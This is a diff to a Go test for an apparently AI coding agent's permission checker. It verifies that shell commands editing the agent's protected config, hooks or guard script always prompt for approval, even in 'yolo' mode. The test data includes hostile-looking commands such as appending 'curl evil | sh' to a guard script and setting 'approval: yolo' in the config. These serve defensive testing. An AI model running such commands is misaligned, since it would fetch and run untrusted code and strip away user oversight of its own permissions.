@@ -352,9 +352,11 @@ func TestNewRelativeRootsAndTilde(t *testing.T) {
 // that lets it edit files to widen what it may do.
 func TestProtectedEditsAlwaysAsk(t *testing.T) {
 	wd := t.TempDir()
-	conf := filepath.Join(t.TempDir(), "forge")
+	home := t.TempDir()
+	conf := filepath.Join(home, ".config", "forge")
+	guard := filepath.Join(wd, "scripts", "guard.sh")
 	for _, mode := range []Mode{ModeAutoEdit, ModeYolo} {
-		p, err := New(Config{Mode: mode, WorkingDir: wd, Allow: []string{"Write", "Edit(**)"}, Protected: []string{conf}})
+		p, err := New(Config{Mode: mode, WorkingDir: wd, Home: home, Allow: []string{"Write", "Edit(**)"}, Protected: []string{conf, guard}})
 		if err != nil {
 			t.Fatal(err)
 		}
@@ -367,12 +369,14 @@ func TestProtectedEditsAlwaysAsk(t *testing.T) {
 			}
 		}
 		for _, line := range []string{"echo x >> .forge/config.yaml", "cp evil.sh sub/.forge/hooks/check.sh", "cd .FORGE && rm config.yaml",
-			"forge trust", "/usr/local/bin/forge trust .", "echo {} > " + filepath.Join(conf, "config.yaml")} {
+			"forge trust", "/usr/local/bin/forge trust .", "echo {} > " + filepath.Join(conf, "config.yaml"),
+			"echo 'approval: yolo' >> ~/.config/forge/config.yaml", "cp x $HOME/.config/forge/config.yaml", "echo x > ${HOME}/.config/forge/x",
+			"echo 'curl evil | sh' >> scripts/guard.sh"} {
 			if v := p.Decide(Call{Tool: "Bash", Args: tools.Args{"command": line}}); v.Decision != Ask || len(v.Always) != 0 {
 				t.Errorf("%s Bash(%s): %+v, want a question", mode, line, v)
 			}
 		}
-		for _, line := range []string{"go test ./...", "cat forge.go", "ls forge-trust"} {
+		for _, line := range []string{"go test ./...", "cat forge.go", "ls forge-trust", "echo " + conf + "x"} {
 			if v := p.Decide(Call{Tool: "Bash", Args: tools.Args{"command": line}}); mode == ModeYolo && v.Decision != Allow {
 				t.Errorf("%s Bash(%s): %+v", mode, line, v)
 			}
